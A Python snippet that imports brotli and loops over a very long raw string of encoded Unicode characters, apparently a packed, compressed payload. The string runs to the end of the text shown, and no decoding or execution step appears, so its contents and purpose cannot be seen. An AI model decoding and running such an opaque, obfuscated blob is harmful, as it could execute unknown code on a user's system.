import brotli
n=a=0;b=1
for c in r'''ڊaMՕu}׃RC}ю}TމJNoegBT8j(j][5:;V'4d ėNZϧSU!ڿ%-xz$Ӵ7OdfwkG}VӾ"ϫ_56Z$Y;+OָDiB*wTY$yBk6j{h^4f`13ʥc96q(ɛTpSh!Ŗb--27GDoɍ8Sb͏|&תs|R"9#.IOXCq$jۧ+NscƖM[ŖǲβzEӚ?/1Ƞ'<zǪqeXt8AQ>hx~c-qN{ݭ}s.Z.ӫ"ݠu߹\H?3Ǳ?=zNpEy:׸#dgyLsITPGT(ݧE@uN.fua*uySUJkD)	?Fc%D"&M0W!hڗ(#+0&/{RT5C	ެܡl~^M(Ũ'f^}
-ӡԲ@(+9AOR/\.-
j\YJm$uˊx~3$MPk}ja)6r;<LLR<DCt_!Ϗ9B؁y7ccEPfIЩFi92̢1(j&dUkȌU̈2/5|($(<-ӌ̲2;NBXܯ]3Y˜jPaH?gY ^ɔh4yǖ=Rʜc:*׼j*f]ľ0Ֆ+-9^g[BЕߥcuS8WR!/qLwiobDF qԂӖ5VWS>g$:~+dnĿm'Im˧[5|eYPfuzxc]!$*O0^3{JI\DdqxoYՅk1[~!v[%K",@}AEʘ8|:\E!ڭͯ
4Hi7r9C7Q13`R=*}_h!L$wce`zKކWO$d=.
irD;j=R>oHց1ARNeKѽpܯ/S\]$8~xƱI2Ì(v)Y%(_?rǛ<w:Ԗ֬UM!3r0ykXDރQB_tPBJQӫ~˴c9Y\rwq4=?cEO1w8cS^K-'+Q)N~БUǔ+_hQ`[yԔT|`J+{<C]1с0>ˎeGXT$hW4޼s5pƥڅHغx0.ܙ;8MWl`߱Ck

{ Ok-^5K?-o>ʉ_z9P5M

n\R،#{"ȑPѐW,>?0m_
'uKu>R:n:7ϮQЯpŹkŲ˯~2s|}~>ܺq	\ȖΪ΃qԆ\IrIKb\N]1u=7Mùa4@JQZ!]?f҃I)şq,sZ׿1q)j%7*U5mMG-JB/$@ih¬4f`Bރ!A/EVjBB&܀f$D"gfX>2Pˢva:sS؍#ц=y_MqPoU-Z({@!D|6:W5j|Cfi;*jT7]5EFF/X5˚/ӉP:d{\Ʋ +P]0^_Vܪ.ď>b֌<3Rn?:RC5͞<rZr?[mQBSI:3}>ý+8Ralڸd¦SאtC{Nz"ǫhTχ|ڼݤتTƿ[>{,gѳ;$kX;}"&EL32έ-SUrwߎ8څl3ٌN8jJM6$~}%˃`mr2ݬ7/˙gy`ȶnD@#_\R'A<Ivp"Ɲ}/9pWpѭ9VƇB0Zg]6jSߡB,Eh&*@fq)Mtr~-#cb6֑YBոL1MMݣڢlesn͗
fɊN#yfa`RZ؀EL9tmVɟޗt>ݠ!2ThΆ1ը٠ގSM|:V@H!||a";aV-_=ʭy@4|J),/SLf1sAݧG}NTl!ʘvѬ(Hp7%Z(NΧΦ˭HYY}~CIS-ёg6uTL{Z{bՋW`X <M!ˎ3jү^VQ~4sԙW(όt}@[?I'_T&"tЃy%kːEtҋՀJԗWykgy1a6_Ƚ9p[>DƤ
b.}2D۠Nuu3;CЛc֭V.@:\$݅	<ؗrSoQDLk;!FmҋF4ə~psK}<VhU/ڰR`ֻrOc`Y@dшT^@k_J۶dlC%`;XkX-֐6ɨՄK12';θJ
w؟  9@> m~ֿaDFW@1#[tXaY ̐5(-FF"	O38"MpBҺ5Q@r.O̒6`1.[o-'	SEε"5#
J<DI|[`WGz[҆K9Qډ*6}B%Ydm[L.»6Ĉ\ʞݰ2)"xۆR"=T6E
PgҁPji»Aټߦ'g,޲()?%v5KR\FgΖ.ЈۚΖvϥi{Tc[6zCtb'FLիl;Az,/B0e9o<@TTD)cȻ!
Xc<<!'q6N'{s3F1Bv(*2zd1Z?8yWhZ"ҁ ^nm,*Ξ19wP{+F/NA_TĦAC[S^Bbήs\@֛ɯ1GgЧϵki]K:h}:?_)xFxS.	Ӄf#(z"n#(kPrUV/-d=JY$<*ʓ<M"ə#JGʱSKwjΤ*(
V%b((\}ݷUKpQBH<hТDKzȯѧ%/hzdٹ+D#\.\9R8u.o\x%%uzx%}z4G..~A+Z
nǟ{{Q8qp.M:ENohx&6r	GI6#|EuGD7W
3لD*TqqtqgżJ?$x"\ko$*w;zƏ<n E$h#oJj	[׳$ʾ׽ l[\ru'آf)#ۄ{ֈɤViCt%Q+8AJOdC3z'p~	2aDXBθwb?4ޙ,ߍ^؆_LoQ, [6m]SdYDXT1;|EՈ%}gĒrs{c2:Td4O;$ýtpMIHgsWr`Hp?ewu-b]z}"Ϣshq}{\*B
 '6B:8Vʯzl=WJޒUR4C
ݥZ
ׅۇ4#b+Gjec%t)ZV+/78[
@qnڢCQW{4S7rUnrHDSI9ŪLe|חqjZv+0TDD] |vPeѬD?xz^k֟-REK_Uݻ"IiE˃/tfQƣ+9 =|[:]Ѿm̞C@'yj~]g#)Rd	QQ^X8\:a	|V`HSoN@JrY@OK7
֥FVk`xX 8Z\xߵFٗʤ?ʓvso4I:.Bd	o`bAYw,L^pam9ݩb\+P>`ۉ½Nus'S\پ.v̒e5NwA^DZ1*r^ϨhK=LHmXWd˾$~s x2SN.I{BߣqRfF8yP"lňՅVь]q!=(mA
jb`poԽш -P88h%*ɬ+ʸ%)-psFOJL`W7VO\bD_K\08iΓ@_w.JHVhk݇b8B˾DjMzq1M%WR+PXq0~xjSW=vfD;߄3yٱWq)'b;~mFVm%tP>"J8?Wsz=AyWq_ùw;)0W˴2GmxAn0϶ԁ3MC,ݧƸ{UxDg#>z~QyɩCY݈:(O)!d*?R-g_t,_%854MI-8DDWf<th&e8ƀ2=Px7{.E]iBp6UF֜fô^/ʎ.{8NAX'w#xОݦF{=Ղw\{Xz۬QNxҁRh8~aG	[$jP>_]J|(yCqJ8٬΢߼wa:vI0lKtH.*)یU<!Ifő"*ĵ+ZhQy{zаXƯgqԦ<A6#GkiˎPRćѭRV۽n*%ZZL>bw>"R"ϋ1Jͧa|~W ׺Plφɮ"^:w<1nC]@$*]l6ǴwXi=&!Ď^>WW)fjK?ҞuRR[ͽcO@rNm(":h}=}0;3xl8E%A׫tp93ڹf.h>OUb\Ȭӆͤ-!AuDIHʻ}A-ޘ9L*4ʯ8:#\Б+3N)97bڗ>׵*tϡYX1׃./5p![c˦i÷#Rv,U+ZKs]jCjMikϋt7Z8l(0k`Zhesוp=YŦvĉ-:OԊq,!D0ofC5W%8p'bǎ޴0:RaEٜ\]c!oɌo>9;MKG[~~
9~^A=1$84<Gޥފg}T2 Z̅$Dڅfn.v|Wү-y`(m_زVt6RlOrts
);.Ytݲ4_jjֈU߂s}=OĿ9̃^9a&²\]ՆQ	n'7ޜ[$UՐ,d.ZKՋJǔOx0ók)>C5PVk2kH9	"oOЁ<̪nviL(UShcte+rλ= ]sIzG.^gr<׎פS`n%qDTyZb9'mN M.=iB]{JlI[)?l6e)pxNÕ|ƇahAyTś+(%Vt{"~,Jߴ}̷&zH]&y=1ai}dD.hՉc
FG/dRǍoG6F۱2ݪdȜtɇلѷ.t	ٺYJ])mւI}ӴC#K
]pm$@Օa4 m;M:Og?Əto'Kb܆6D	5kk	W!ҥ+O2|<-97
v-x4ZNĚZ)\`oܮ{-"6%,Ʋ(?Y(]7S}69no"y=V3ep
ŗw1I)vįr ɠݱАrPNM;~:Ɏ6iFFewԊ.TaDidDtW!"Nʶ[bMgޭ܏O:@Տ
Ӽ7/ð+_=4]p5F,ķ'rrTFcW,(л7j5)?6{`NwU~'kʵ5O|m4]Pfe;5&ς~Փ#S6%e4BwIdړ3QEfiyo(.ĠPm_r(7kɐv2»$e>4Vh4o&f/8cz}AgXސBì͎~ͳ|ͩjMr.RQ}rHFmʄWnM,U}2>t!!%ϑC( ,vSUXpbc%Xq4_@~?`n[>tA^oY]ٻra.{|3}LԀh\D^qO09kWW}Q;	Á;,Ʒq]nC+!cW9qRZm%ƶĿ7?5c+OMc/m+*j2-5.iVf0$g4x
{9+j6Ѥ؞ݚ<L,L=/+!dv\`lz|W__b+CݥPR_wò*g"Լ[.sAT`";;lbv0HF}w.fEyEXQy64H_as%Y֟1iajGyj^/R!txPi)rG==IAAv8êRPGPuc75($8+hu\>au_mT1l5r$%BJ<yqBc{frE`r{
4|
sЊxJsc˺[nuYAk,GF)on*NU%R1D{aq aK?iͩԒ˱{ͣ=?hwJ0!H6Z[XMx1ʝ
Bva,$ąؼ,|5n֦5?Z	l
mPѺ	+C҃zZÏih|J|՝th3'Iz\EdE<{,pQDW5cr	8b\ޠ&ȘbR׿X}7OP	)OY>.ΣP7q*<9WSAáR|pRԄ*c9K-2oDAF^ݨdي\@w2>nIql9$0=+ӽL40@(d%6;y-:Mɫ\#׺'@&c_^]EsvTA9{-%%i9-LiN3SL5>ƝkRǙ/^Zge7Z;oFAZFރ?ãFֹĵ1$صЭm};&ڗg-6E)H`8s5Ӝފ)teQt{n]]U<Պ^p=T].ܻHp8Ũ+)##Ò}ŎRՍL5PFi6p7F#Ls>;NQclw CXzA
@~}Мs_a>$?Mޏ4.dWc3ΒWoI50QKp#ƶrب>/D¨w'fe+?9'xfkȜ>5ҍ^hϽFtc
B>ɏV>AV	4X܎K^?LcǥAfrƥ_xjm10rTe	ZsH~k,0Y<7SѤՅ'(?38J#3ؓDm2lP^k;IZ3-*Y`0ûSUyq$Fڻf5%0Zl*,Ɓ]J.>1NPpH'گj~w|KN&fRPB~؎AkG\W76E"yJA4Eq܇3սnQWa!Hٕ!?5'ǌ[p{p&n0SfC
eRkçSϜl>}RnKx*;YYt)$*|sɈ"e%RO68 AGBXEWtQ)H<l0d;i ܓ~ʺzKí`43Cyx-ׇAdV ֝D1[5~Ivtޔ݇9-
@5v1:eiV[>?x]vٲ0L_WQ9Kaxœx:<HtsܱFÚ֪&d# TI[EIO2bGGEBf]ىс"5Qޮ{ۛ0tIxIިݶ(ޛs8by3RKyU}ݗe4"y͙9&Ja ^ʊΟ3@8rtwIQп|1S&Ez|%kܷLo9LxnoxIfU#q8F`eg.x\M!.5PHAg%tn/Gݟļ>w̆*YvpplK#ڛb]ZLLϼ07Mў.|Z,hѢdZcv
|LղEh^oقKr0UxGruSe`fn`79̀n}TZ)jx
s'ڢc*X2*b>ţx_xYA%eqZoJ4wZu1o8;HJ6,ؠ{]y}ԓk%d`Y_H٨Z8%/׮uŝ:y5|Z_u,Ngr|A|Pڶ2&ڷex.jSXAɪFZbjƊ,N
cŻp$-g}K_f"YADs^΀!:3=^6ӈUϲ"Ɋ80.ʡuߟƖMnm]mƧ(ڂ<Ǥ)aۦTl>	ѪQƻ*9 [ߌP.tV֝NL.Z+Ё|b7NyRHa}3;i.Xn-ƦP1Rn޷7E<=X^!pJ=I5߸j^"[ɺtY{Ji.&'
+
T2K3JGE0CCȆ]c7E|Cv/,	:hv`yɛ,8޺sp.p&JfÒXR~Nd3פɛymGFiOqb'Qm2eU-8G\tb/%~'p#4<٢j/H ::tynݐlE%>1W<DQA|+AӈxIffŖ_[>i@J^1aDА4Cڈp1ڷ-ܤYB=+N78NpWV;	ca;i/n}g7T;p4p?'Rò3bՌm<2^B@bBtN@et(Y^e}ylb*ΰbw5|e3˘sz#G^t4ú0>{?QS> |&	9ٜ&ߤYkj=ȫg>guߠk%\l&gA'|DƙUBܡ]$iIfS,+ȴ
&x32&7ݓ&4?A*YdeU8tq)78cqQiw
8>0bߩl>$gCjd^wi2Q@'J@ͨÇh/OGշىdSY8'vEkveI\I*M6S[N!C(uJ@x@>CCwCwߑt@ÀH}@OKYzQsV'ƘG1Sl'+R_͋`pȰDf#,TtSm^4m8&)>"=/[II
PytL#؛hGjRq6Ɖ*02C9o
Mip+p_/9		/|ǇxxXruS>c4'j&2Pɒnc@5p+^W'_3 >l2[?כ4ΣfYexHۭ!H-8wҥθi*[j )\&<1hܶIX
Z;v|H!#5ۡvٵЊz\hɜʩpՎ]q_OM,#ʭp*-xq,Įax`lػ} ^5f_ob#MNH:ЍD.әT=P/ֱt%>*
&v1j4J2/"~oV6_+<	oo]۹nbt"sdAzkO3doǜܻaҙT~N/{$Q.1_fJ
Q\aga~ܰ&}3(\|S#sm~dY
Еj o2`҄±Eύk,Nag={2}8VJŏI#ӵu'FIOC0rԑLfxeKA+%ɍ)lo5*AsP8=PVf~^mDQP+f O,JF(uc@,*	\"|lNHJĹ=[L?ORMo
xFp&#qD+. tוCqau7]@FC'LvxZ4srEC1̘)U B|ڜg60S`Qhȷh_CV]CV3
QFV0^mfxoş^Ŏ,M*8@}WJXSj`Y	:ϑbCIR0ktQN^ƶ"q-`~L||g%˞U~OVaϿ
+{9}-v_Ջ?bG+>S b`'kiK%>D*#*Ϫ<
8=JUG_hE΂1HUC"qf
QvBrMg;nWjcϼ'ڦƞ}[,4OmЎv3.m
V?|,æ֗@3tʤ13۔]rFrIxuBM\'4N$}4Sy:øJG+NƝAI`(Լdvr \-2~7$dmv aM/O˼YDG]@nl;-p>%yI+E&I׫:>uƱL5"gxmUV~Ҽ_Ų	ۏ'-AbY&H^li<2ʲYV(/֒X:=@נ7l30+GO[^WŶN2h_
z<6{C-K4,N2g/gaYamڊ1nkz[^Q-kyor4C;^c(/3Ιs$%Qy$Gϴɋq`&5iEZܣ7vbL[TaӸgB8mTgyQJU~^$=ƇB8]1pdy؆Z~۟aEqjnոÍOY	ԟ_dLrkM`%=RY܀l^N;?g~TA<:-jշ3lg2ehՇ;~M?^jhTk7~֭PK#oU%#~==v"Sܯgp0hOfѯisk s~;U@mO>A~[Tس_̼}Y(b5$LQY2b߾5.`[l(HqٞЩ+I)g9*'lpX<&pI_F[XƟ:n'R?WЉmh̠"D2fgH-6	@Ėpɱ.xt"z.jͽUfZ]Ggu_[|35u[GiJg2+Itv\ʱ&S\6zb'0s4N~0l&kC	?9hhñr߬s},W~~К[
eh#*s/6nDfi6=i>I,ɵr44ݾuegƚv`D@,&M}tg\ʡɢDHaܭz4I^>ZIZKiF~Մ
;WtY>=Ͳ8V/[Wٕq`L\\"#ZلtC͉W5àsOF)DUXw~aSd
f  $3÷fb3/cc+͍{'اdզm2=<GޅBÜtsLhյ@m##õ%19AlXbH,B|lpVo,>&ڸ9˼
{xm~\ه<AkŲD
!*&PϏn`y|׽f
m\yޢS7nAf'}09Ec4˒Z8"WJ5y[,o1g6XcQ,ViṪ.ZԃG݋я-˝ ,7)WȤ~Jv#(BӖ4:@2ȯ:آ65MFX={C[Ϡw+3PK7/\[z##o+BOZjf3!`;äLZٷ*N>H+ϊz,(?<lюqn ǘExu#So,&wS{b9ǣ*9'fU2ѹ3 vŋ4ҖIñgS"t)`N{Ċ9B-UɲD#P~ڕjTP=kA;"ƍ6i٣̥aXv.ـ̢d'!J"\L1=bZzMJz+!5	oT%,xŹ!/dm=e5[1K	Ƈy5%sy&RQũۂkN:ɭ.nsGv`kۿ3|3ͫX0NH}؜2|Qf|8	@5@IPho_4iFRsXjh؂g+}B$%/hө8˙δXD7Ӣ[J`uaoi(1ڹWҔ-_iBx֠?oa@^NXt%v(/MhuvUyӢ+|!b3v uxs|4LɮQ%#8UZg?uۑ-'A\GS؞,"|εl[vKm#.iC;7-+ ڄh?Y67pWY'\ĳ3)j%\6AaH<;>a$W[0']&XTT؆AYx>s+ůL~Oهк9ްmvPL$7X0;|zh4yf&mM;]>*tL_W-A/)au]RfuP͙Fli
SC3`wjG&CAr[m_YTsk߃ T;/Ru_TͲI;Ҁуo@	8}?YTW$3e@tót|#R7B}4"Ys6PnG?6^jKySň2:p$enrM/tS.0L%}֍m]h'e#Z=$[E­)#g9XNmECG/3ʌ[f6,ݏPv	5 `xB.X"^Rwȿ&$>po߅:k>eJ
wyx9WhC#p1Dj|ͭӤ+WNi%lsejarnyqxVö1ݒ.گL'VCQb?&6":	mI.n-3ޗ>W׭Cd[E^O~%Ӑ		eҍ)?ݑ+_~GkLJ|[΄qazHYZ9;GVLRϗVhm7vQą'w<#21ӇY88>:jWՓp9ϹsGډvɼx">.DjNX/BGh!`ϊ8^XR@)w՛@SARōV]NSж>RaɲQܸȲʍd\C*28i
4MǡV7I^9VP<~ˡNLtҶ_9")`ClU̪rNN">tE@|,C7XJ@}ŹS&}Ѧ:.֛
0t n;ReOوI`-5&^Udu,noxu92E^νǌReuRRų(%͒YMY	drR$.p"`Ӻ`ԭäehcBPfaE}}(ڛ:`ڪ2&SuAnxz :pε.C̛l=ZڒpX{ІOjvppy!F?ߛ\OLLͺ8s-ڧ*9$9GMF:v=_m{_Vkܵ$Sh<e@zfΜΠY4_[O7ӿձX8ni>%Ɖ&;ah=|a`݆b':YrT3:i](k_ ;Glj!sף&AgjL#B::2pkdz4ͻXBGK]=@!rW='R7MQ/xhECgǉM#2MN%*әg*)5vk*Q2O!hz.)9	madV#әkB]SR&+S!B[-B(ȃwzF-mĲ9X~Q9lH."?$/"I4oR	XG45d'3wc aZXpU	ȋhO!qՙF˞̷A;J(V?wݡ&KOp$[pmC˰VMl'/eBmDMM6չ+ܤ//An/],`Č|mQ)
3'1I2QڸSA1O^g=,g'XƼz8frԛ>+_+/Taź~CA~?z6$
;?F+ܪiΩh$<|
tt69!iݺb?^%b-d֪HW"4dIܹh2.Ùd,sܒ+dPsPl˄ e:wc%EAW.0CB/=l=
ۑ5AN<i`l#DS&=:͵dʛŜVs@D)_Uix}ɞYѨγ\oKiX̠*&>Ԩ?fBLYjrcC	3ǐ[;N_Rl,¢Ab+gJnJ.[`c)m)7U1C5̓2LZac{i֫Guq7hY[@.}vd_f,GCP({MCqnͽ%;%mh66Zh7!}Z6F۶քX8jTܴPА7l4xgj^jh8OVUue|[%Mϒx}tAɹ>٢pmS|lƢҏ̋u<y	/;R	RNe5ɭ5sřdYd]'Km?uP!ـЙVԒb]M9Jx1`,2Iguu,>T?,[Mn\~ӬS!pb]9nEך!R@Ŋ[5n+:)ˠ3Ux{o<~"YXMܛ9 PnLr|áO;%^KSjv[b^SMu:)c؁,>cZn$Yу$.6ĞJgyƹ::uv?'O6E*_rh=r'kePJ-i`tTK+-C=Qwu(Pn<Qu6@"+.;Ø֣ڐo2ox1H|4k0@~vȿ2ԁj{AFKjXp2 =a/z'{KxU[1vǯy7z -pI['وױ++q+W0N[`{5>7W5:&+^l:}(Pv5Qs\`B<غ&;BM*RsÒXq
xfפ$u0 \k#=N<|}}tlߠ
Srxɛ\mZvbv"v-[Q;RrK5+>4WԞe!H@ܿhhشoP/7
P	j40tږBG{!ռ	Ʌ	¿c0ʧ/ZdϱCR\CU!^pu{=w^ψCi6I)Hcɲe"3LӀՌ.Uk-9nXg+_KG؊b.en8bܜrFM:(m19^Z֖'ja=/uĄqir<դޫNg)~M**SZU4K҉ǮfT9L.|CG1x>Ke{$;HzCRuJ|%tVMׂٖ6ʣBa@(-$IdT.:Bi \'!tPz96gTOFc K)LÉL/Ld}SPZѧ۹^gWzݍw{DF\@ƫcWޛ-r^B}`;ǪVȘvI4^AE*CJi;=`0Zv<qL'<#rM,n;5!<vE/7ZA1^c4܆\2Ղn9ʼ!
=\%fnm`#t|wcjb{TM8vDCr[rޖ҂͗8BٜHۼL^VeGlrnEXz(96Jڌ?g	]j}Ł;̅${wtLfѭDA$d$W!K'2wkN:@D~>THrZZB_"U˶h11k5L5Z;
oBt_N-#hcLSϤhŏEY;Фiq&4_+q`m`9:r`]EgҸw;8HisV0:9[έ*ݘa:sx&p=qjM@v5lm2g=(y
^|	!%~,WW!n2X@PdH(7hy;MqnbTvC00(JGE1Q>_ܮ,>5ڱLEq	Gz'pNwKlQ1Sɼ!P=$Ë=O-*1'j^Yǲ%Ïyݲ$<}vB˦Y12ą@sq.Eu1|r5%$+DȌwXJ=!8r;[PGg=v;wȢ_p7~ZA?|qlWgOˏ۲BEp"jaލ\Ѕ%CdhGb"%-3qE4N$>VnZoGH؇IwUW5gHY-U~/+43qzD]6 7^<WǘMg_ˠU$/BxK?M$R{s,a0c`ZޡZ1+B;D]ͬ2̣0^ִQ	Oy7AٕİaH:[7A*lmnB9Kv82'){ЃylD%,NE1bN+t<J%
q	q5m1pLZfr՛zb\Էy#Іk/4A~h#ize1/)dJ
>Ϝ;}ZhgHOx1"9c6_niQޤh&AΎoQ̈́9ExϽ(f^ݓ4ORs('}!R\"Ɵoi	J2@I,߬/qߨTS4')5\W%V%&^f\[85ڬğNwi,֏~t%
ފNMTE->k(?8m3xRĽ2w6¼\ƛϡ;#tk_ؠĮxx,ȢkZ:3w]!;\.2D؜ItUדHF@x!Е2;BS	'RXXy Ȑ,_߳ʀ[fْM+p?~я"AG7^}w]{/ȷ)^b- #i+:3i4`{8NGI۸ۼd=O&zUCq&4"gjG=N3% yq$Tè+h6݈R(^]ρPsQƝ7b&ựO|6`͛(7٣ &Pt2I=Pc~4)ڻxW=Z]$Ǒ^-pAdjzǷµg"Lz϶nO0ʱcֳ{9PKZXӻ{sȮIgDx#	.ҐXԟBġa?	GZ"Ihq}ڒQʿ1?@efL׿r@А"Cx<ef8/Ȇ$#4[utK1PVٝ܆rڔ!lt1_:i8ѓl05'kUjQ.тwzXH3QyJf#gawk^I`Rr&rp_$،M{2M)aML7ZEMeg'L]*NՇ#/ɧR:0Ê
nI`$Bd+>[z]\jXC)8_M{&ȿW"zYquI}b64O×5a/KJ<Vl"\B[+#"Zۍԇ'TU[	ǻc_Jvn)ц6xbŠrbYkQq
z{ʁ_FYӢBo$*u!pOXvߡ%8ܺG$È~beȕ"UD} V4Ґ8*\ő֍h9Oмߎ_׳1YJzhbp.53=k 0ǚhl^Dt*	Jݕܠ\fB5I1?Ŋ:%a^P!33<˒̼\d^˓
`HE3]92-e:̈́vhd8,P+7\#G7qɜ|A:l-+W@͘ʴLG3ȣ'27jJހχ=nɡT&&}e2ra=Iȏ@X5BLtomިK'<"č|ߜ5	܁xՓkFIm:w8AvjV:J[0@!<}G=>(x	[ppe8̲^޻[[R."(DmtW!!TX:PbO0.̇NtAg`_r!{uv ?8ԝ{?MbhVR;,FH#z-n<H܋)uْLua8ޑѵ?@XP7|*'+ufg:h!T[RyeFP2^{mk KR(xR@x_D̪m{f0N5<~un߇	ͩ:-exSҩ[eBV̯	r4:lY˜D¹0#)0"Bw0۱Z40ݼr&s>liDƃR*77ul&~r1{{VSćư/nFs2flJrS"Y>Hmٞkh}˖O۾݃I_ى=.<]Tl95H*2)mL\ҥ ش(GIѴ8y8T2vǰg\_!{ZMU+K`b؞_ec}/\n6lvZUo˶ȵx#g/#r]hSMN~M3x3VSVljMa]sAs޳7d/ V'k	ϗ_<PdNǓWr>EThȢ%+$Ca0Jךb`(9hD*`PfsRϱKBw}-gvrP/ֆoYM2l!c%a87&CZuUWܤdPE<.3Vlɩo[ &dawџOXRi^EΟ%! *jčk+ոwDX*tƄ..i`&߆1<)ENjQi$9uln:_7WaÁ(ОKQ5͜o=-=^[˵תW=ϜX>$@+;T$WR4l6ܘzݸWבm&
n>4>oeۀ6Lam#Gr3Ҙi܀EԲ̙ǚ5HxUO#Kv;$z?z.ɱ8_D+MϽf͙ch<4}1Y<׏ɺ0ˀJ5ԼY?t-AE߆6Y{Lѹ
d3pL&fwYL"IڹpǤj<rŨx!0,?۶˗|5zok61=d5̂
Ǖ>fhAO'z؏ȹT+Uٹ}ueWw=).^h\`'i|?pMq6__qdv'TLyLhTAV:hfA,McpO׏hܩH25=M4*"	}iT|Q~wMԵ6pl<3BRhqeq/YW˞g]V=ƛtx/ŐH.{ɩWK!pGPQqbCfn
ΔDn?[4r~݇Y/J)6'zf`0vҠU[qsrA@ʤ.ǵU<*PٷjShGC'#T|~'~.qHxËeSW55Fܣiפ7"/>U9pfQbMVhevUWVԻѮղ L]Q¿ObP,!tP
sU\CEX%*E4=ZG9c;U3j}hkڧʢɞZ{.[Ȑgy /Ձ/bm04<<m\9xjߖε
7HՊM8)ݽAƉK
|P]*S^bQUZ'uN]4 ^>*WCE4Ai*]Ć<;Od|w"a\Т'LoYs_ۿ7-`@R7X/Ui#3֞PRNPTZNuPӎO1{+U76mSB ˴ǉ`|u.,GlAc%+LQpA,u7֒gx0^[PڙׯW@>#A%Vڽ(.eK|_l8!FFS;		Ϩ|g5.%=.MӒ[6M_F=&6;Gƽ`οڸj<yIw(ӂ-#{}ưh&P>hẽפkrҍ,*,
0p;L,?-.=>;5B2L9L+96sgv|m۝ƶbZiwtY֚ĵ"D=YRCԧv["wMR5uJi _$*Vr.>Y\XLMĎ1k@~3`ug^&lbǄ,wauv^DTdCx`3|I'~	֎ɸٯ4!8*.)#o?>JSw4EsN'ºޠ5;>SC&;$l)+e7<W
-|J%b1Hy#*ֵwA*KG &ŗ΢*NlcPͰ=sӍɰ.\YI~^`Uywg!ltE)
6"m9yBaM۞*YVc?>Ar`&./?)Yn/V$ QJwDIncm)acLDUٍfOحǌQ*\M,_-Y!/ƌpjn|]V{D޳pXu?aaj6QWej<4y߫*{>TaϜq0nZDa;ۤ`[_֓BG%c!vA-ǳ8)Q<$M>Ñj*'ƧC`78Ӣ(uL؝o3ɾ"k7<#T$nބ'c2,@WݯhrKT5ٕ"B2_n*ŝsY8<1r	B/U%ƽ`hXlK_w9hd^ԄoιY	pmtx(vzڛ:V2Xv ^ݡ١B܋T'VT/"ѷeå9(ˈk6ہ5ƺYM!֖""D~h+nXZ{<Y6ISHRudoρroq8RL; Gwer|ouNtCAߐOFʉ!GOG:MQf9hdj%?Ts\Drϡ0ڊH6\ Cq6"?xUd3ϜX։ߝD,=nP`}QI';z`r+2E')/'T_]CʕI0.-+b,V
'QK<DJc/?;mBއ:v&ܒjPu`nT~0Tңe!`yGŵ/P]EF@ԹEލ5$ʞ0r;I7QΓ
|#&}FSu~(/7~Ya7	Xl;nqIť].Ïۇ$۩e'Uߣ+kqjAp̖9#I9Sbʞږtg`aiBkKs(/<EHtRG^ʔ׷))%Rtڮ$Kb.%U }
ڃ2Al=uJf؊#RPPȶZ̩<&>߇C1pPs|SVk7(Ev*S`@w,r"*Щ:oXGASnKە$B8\=lxG8&6C#v~s7ff/N%"rLHZ˅=ڲU0'љ/z"DmIYشQˆɒ/Ђ`{΀,y!0(:#$RTt-1fDHãӉG|'nec<Ae"vQ'H-ès/`g/jnfiLf8x^(Ǟ	AUp4R1Dˠ47FB%nxɞ)>et8[4?.qԮpx$b-e*N<TjOi8qQ:@>`:)JYy
O	}NV{?AcE¾<P"ڑ~	Ʉ+bl!qYv %_Ut';w3XrX@(8cɨ+8.+i1L;8O9p_mxr062~$}r=tLhw.ya#œA6tIK&8n&SUؖ5-<:Z'Z"ޓ`'atѿ=S#(%f-}"j{c1Z`0H
X'Q	UuB]%#j"OMĥ߱$طK5Mw,+9:Щ(p[='LVnΗ@hA5m]wQy)`j
[?Xs*f/pc3rh`ߵ#|rw
BdʪǾ8oT2`ňdj7G9`T(["vu}}`>̯vǯ] 21d?D xF-ɰ<?8Bd8IQ%80pTGø^?;bk4c@+ڝĎu2|*˱03#ǙQi<\;٭޾.U'H>rŀyöc'@eN"RDyk~$81v]VaK2^;+>ПZ0P9}TގU$3]hCul9Ϡظב-F?|BiFdFNoLj@r)yXTW?"c?pߕXaK\ѯVw[z'6n$fJ.):zyurqS.W(Dך1hkËHDzH;EXUAʻ9MN]N|_r:^~&"2+NK'zD܅6[GSͯg7.~_z%)[{[G=O̕-h	1ЪEyp1f)E)go.	rBO\{ٞ?ܲiqO4VR{^aΫͿLžɲ"o3S,y~,7 @y{<3:Xўg4˭m+?Ϯz/`-q#*BR4T8ؽ؏̵NOt/PV^(LrJ%ċ|?c}4by'gi<"~8U_Ζ]ò7^npÝ(691вʘ(rռ#μ$_̛VS+rZ9KA`<mN}׽,A+nl*R3A{7I0Gp$ڱJE}9bdBwrFf,T__-ڶ܀~#wI{q}ǵl,Rʇj¼\VaeqEK7N-ǖXy:޽yþ:6aZf]Qe*(EDN¸ח/$tS;7$KVp&E,=ٚ$(iPguڝQ{O۸JƜj'ξ~,i_Gl,7q7s,)-Ύ0$"SG~/=xtاQ}:	>mSO۝	GVX=.5ǑGA,QDٓQ`<]?!X3mPpiym,Ξ=:s=\ۥ[4k;*W/1aR&޴m:ðCb5.T}h\)<§:|Aݏ ?5	6|/|5k"|>{:%wŃׁF'DTlX1ݗ5܀_ҡOفmZ^٤IF;8L]cMąV2)ܛŶ9!9B̢$&uۤp=|WP!|;Ai,%^І/?`Iի2́NbUˮ#Zԛjffp4FoJ.mwOa		h=/leC%%\&IS>Ddm_	KRL!D|N˫\߄8#]_%A[-DMP6i0%6aBYNkk/7>TX,L2Ypȹ|QΡw	b4ב4(7^>]GҒ^Y-Ni4m5-XjcpHppX-8gA]?AFD<ˡD&rV![%45hk;Q<Ì.K&OȘ`^Ƣ$Pf&ܩMgϺZ'oeܒ}<UIhݾX2jB3	)I?۴$#0[ԙ} oSKʤG}ugj'LոqמKF+/MVX}Z`cۂ}dN\[1Wy{Cݷݸf"J0ېr-zl#/E_dBܧ+^'XڞvC{F4C(sݴ°VhlJB-<m!؄>XPAvŢFI18f0lnz}%hVܗ=5u$vN2S0`qLݱ+nkZTWRuKBB(H ).۪>DzA"3џI
Nz{^,!ٳ4å40vJˋV,F ep`xEL@Ԧz+7pEheF(:hB|1&ĕ342i]߸:u˚mjWY2ۺ]c,m8\J^HJo36ɿeyݵy&OƇ7pERB:HttäռH+(K~x"".Fdkب˘RhM0˼S`ӝ	JqW@ڒ~!KXWZ<Ձo0H4G%93+>B7ە>Z&_8qώhxNv8g$|Ok2F4Y,

#
Y|r#*>u
T&Dh e͸+FUOx8:;0ՓIHgXyi\-:WO?Zס,KdPGÉ]{vOQldFx8+`tdckz,xGviK~3
;:y(-&
